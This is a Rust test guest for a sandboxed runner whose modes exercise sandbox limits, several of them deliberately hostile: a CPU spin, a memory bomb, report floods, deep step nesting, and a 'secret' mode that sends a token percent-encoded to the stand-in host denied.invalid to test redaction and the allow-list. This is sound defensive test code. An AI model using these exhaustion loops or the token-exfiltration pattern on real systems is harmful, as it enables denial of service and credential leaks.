//! A guest for the runner's own tests: its `mode` var picks a behaviour,
//! most of them hostile, so each sandbox limit is exercised by real guest code.
use std::hint::black_box;
use waymark_sdk::{Result, check, check_detail, http, log, sleep, step, vars};

fn run() -> Result<()> {
    let mode = vars::require("mode")?;
    match mode.as_str() {
        // CPU runaway: never yields, never calls the host.
        "spin" => {
            let mut x: u64 = 0;
            loop {
                x = black_box(x.wrapping_add(1));
            }
        }
        // Memory bomb: keeps allocating and touching pages.
        "oom" => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                black_box(&hoard);
            }
        }
        // Counts its runs in a global: 1 in a fresh instance, more when
        // `waymark load --reuse-instance` calls `run` again in the same one;
        // traps on the run numbered `trap_on`.
        "counter" => {
            static RUNS: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
            let n = RUNS.fetch_add(1, std::sync::atomic::Ordering::Relaxed) + 1;
            if vars::get("trap_on").and_then(|t| t.parse().ok()) == Some(n) {
                panic!("run {n} of this instance");
            }
            check_detail(
                "fresh instance",
                n == 1,
                format!("run {n} of this instance"),
            );
            Ok(())
        }
        "panic" => panic!("the journey gave up: {}", vars::get_or("why", "on purpose")),
        // Calls whatever `url` says; a denied host comes back as an error.
        // With `then`, that URL is fetched next in the same process.
        "fetch" => {
            let url = vars::require("url")?;
            for url in std::iter::once(url).chain(vars::get("then")) {
                let resp = http::get(url).send()?;
                check("status is 2xx", resp.is_success());
            }
            Ok(())
        }
        // Tells what went wrong as the journey sees it: a check named after
        // the error case, so a journey can decide on the kind of failure.
        "classify" => {
            let url = vars::require("url")?;
            let mut req = http::get(url);
            if let Some(ms) = vars::get("timeout_ms") {
                req = req.timeout(std::time::Duration::from_millis(ms.parse()?));
            }
            match req.send() {
                Ok(resp) => check(&format!("status {}", resp.status), true),
                Err(e) => check(&format!("error {}", e.kind()), true),
            };
            Ok(())
        }
        // Protocol features against the tests' FeatureServer at `url`.
        "fidelity" => {
            let base = vars::require("url")?;
            step("compression", || -> Result<()> {
                for enc in ["gzip", "deflate", "br"] {
                    let resp = http::get(format!("{base}/{enc}")).send()?;
                    let v: serde_json::Value = resp.json()?;
                    check(&format!("{enc} decoded"), v["ok"] == true);
                    check_detail(
                        &format!("{enc} smaller on the wire"),
                        resp.wire_bytes < resp.body.len() as u64,
                        format!("{} wire, {} decoded", resp.wire_bytes, resp.body.len()),
                    );
                }
                Ok(())
            })?;
            step("cookies", || -> Result<()> {
                http::get(format!("{base}/set-cookie")).send()?;
                let jar = http::cookies(&format!("{base}/"));
                let names: Vec<&str> = jar.iter().map(|(k, _)| k.as_str()).collect();
                check_detail(
                    "session kept",
                    names.contains(&"session"),
                    format!("{names:?}"),
                );
                check_detail(
                    "expired cookie dropped",
                    !names.contains(&"gone"),
                    format!("{names:?}"),
                );
                // Loopback counts as a secure context, as in browsers.
                let secure_expected = vars::get("secure_context").as_deref() == Some("yes");
                check_detail(
                    "Secure cookie only in a secure context",
                    names.contains(&"secure_one") == secure_expected,
                    format!("{names:?}"),
                );
                let echo: serde_json::Value = http::get(format!("{base}/echo")).send()?.json()?;
                let sent = echo["headers"]["cookie"].as_str().unwrap_or("").to_string();
                check_detail(
                    "cookie sent back",
                    sent.split("; ").any(|c| c == "session=abc"),
                    &sent,
                );
                http::clear_cookies();
                let echo: serde_json::Value = http::get(format!("{base}/echo")).send()?.json()?;
                check(
                    "no cookie after clearing",
                    echo["headers"].get("cookie").is_none(),
                );
                Ok(())
            })?;
            step("bodies and tracing", || -> Result<()> {
                let echo: serde_json::Value = http::post(format!("{base}/echo"))
                    .form(&[("a", "1"), ("b", "two words&more")])
                    .send()?
                    .json()?;
                check_detail(
                    "form body",
                    echo["body"] == "a=1&b=two+words%26more",
                    echo["body"].to_string(),
                );
                check(
                    "form content type",
                    echo["headers"]["content-type"] == "application/x-www-form-urlencoded",
                );
                let traced: serde_json::Value = http::get(format!("{base}/echo")).send()?.json()?;
                check(
                    "traceparent by default",
                    traced["headers"]["traceparent"].is_string(),
                );
                let quiet: serde_json::Value = http::get(format!("{base}/echo"))
                    .trace(false)
                    .send()?
                    .json()?;
                check(
                    "no traceparent when off",
                    quiet["headers"].get("traceparent").is_none(),
                );
                Ok(())
            })
        }
        // Many requests over one connection; `n` of them.
        "loop" => {
            let url = vars::require("url")?;
            let n: u32 = vars::get_or("n", "100").parse()?;
            for _ in 0..n {
                http::get(url.as_str()).send()?;
            }
            Ok(())
        }
        "sleep" => {
            let ms: u64 = vars::get_or("ms", "100").parse()?;
            sleep(std::time::Duration::from_millis(ms));
            Ok(())
        }
        "stdio" => {
            println!("hello from stdout");
            eprintln!("hello from stderr");
            log::info("and a log line");
            Ok(())
        }
        "secret" => {
            let token = vars::require("token")?;
            log::info(format!("token is {token}"));
            // The forms a reader would recognise: another case, a URL's
            // percent-encoding, and the token cut across two log lines.
            log::info(format!("shouted: {}", token.to_uppercase()));
            let encoded: String = token
                .bytes()
                .map(|b| match b {
                    b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                        (b as char).to_string()
                    }
                    _ => format!("%{b:02X}"),
                })
                .collect();
            let _ = http::get(format!("http://denied.invalid/?t={encoded}")).send();
            let half = token.len() / 2;
            log::info(format!("first half {}", &token[..half]));
            log::info(format!("{} second half", &token[half..]));
            step(&format!("step {token}"), || {
                check(&format!("check {token}"), false);
            });
            Err(waymark_sdk::Error::msg(format!("failed with {token}")))
        }
        "fail" => {
            step("checks", || {
                check("this passes", true);
                check("this fails", false);
            });
            Ok(())
        }
        // No request at all: the cost of a run itself.
        "noop" => Ok(()),
        // Reports without end: `what` = checks, steps or requests (to a
        // host outside the allow-list), `n` of them, names `len` bytes long.
        "flood" => {
            use waymark_sdk::__bindings::waymark::journey::report;
            let n: u64 = vars::get_or("n", "1000").parse()?;
            let len: usize = vars::get_or("len", "16").parse()?;
            let name = "x".repeat(len);
            let what = vars::get_or("what", "checks");
            for _ in 0..n {
                match what.as_str() {
                    "checks" => {
                        check_detail(&name, false, name.clone());
                    }
                    "steps" => {
                        report::step_start(&name);
                        report::step_end();
                    }
                    _ => {
                        let _ = http::get(format!("http://denied.invalid/{name}")).send();
                    }
                }
            }
            Ok(())
        }
        // Opens `n` steps, each inside the last, ends none, then spins until
        // the run's timeout: the record must still close in linear time.
        "nest" => {
            let n: u32 = vars::get_or("n", "1000").parse()?;
            for _ in 0..n {
                waymark_sdk::__bindings::waymark::journey::report::step_start("deeper");
            }
            let mut x: u64 = 0;
            loop {
                x = black_box(x.wrapping_add(1));
            }
        }
        other => Err(waymark_sdk::Error::msg(format!("unknown mode {other}"))),
    }
}

waymark_sdk::journey!(run);
